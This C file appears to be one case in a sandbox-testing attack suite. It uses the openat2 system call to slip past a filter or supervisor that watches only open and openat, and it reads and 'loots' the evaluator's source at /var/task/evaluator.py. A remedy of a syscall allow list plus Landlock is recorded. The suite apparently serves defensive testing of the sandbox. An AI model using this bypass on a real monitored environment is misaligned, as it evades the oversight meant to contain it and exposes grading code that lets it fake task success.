// SPDX-License-Identifier: MIT
/*
 * Goal:  the evaluator's source, past a filter or a supervisor that watches open(2) and openat(2).
 * Means: openat2(2), since Linux 5.6. It opens files as the others do; lists written before it, or
 *        copied from them, do not know its number, and its flags stand behind a pointer.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <linux/openat2.h>
#include <sys/syscall.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	struct open_how how = { .flags = O_RDONLY | O_CLOEXEC };
	char source[65536];
	ssize_t n;
	int fd;

	attempting(b);
	fd = (int)syscall(SYS_openat2, AT_FDCWD, "/var/task/evaluator.py", &how, sizeof(how));
	if (fd < 0)
		return denied("openat2");
	n = read(fd, source, sizeof(source));
	if (n < 0)
		return denied("read");
	loot(source, (size_t)n);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the evaluator's source is read although open(2) is watched",
	.means = "openat2(2), which lists of open and openat forget",
	.oracle = "secret:task",
	.id = "SCF-06",
	.attack_id = "T1106, T1005, CWE-184",
	.remedy = "an allow list of system calls, and Landlock without /var/task",
	.refs = (const char *const[]){ "openat2(2)", NULL },
	.run = run,
};
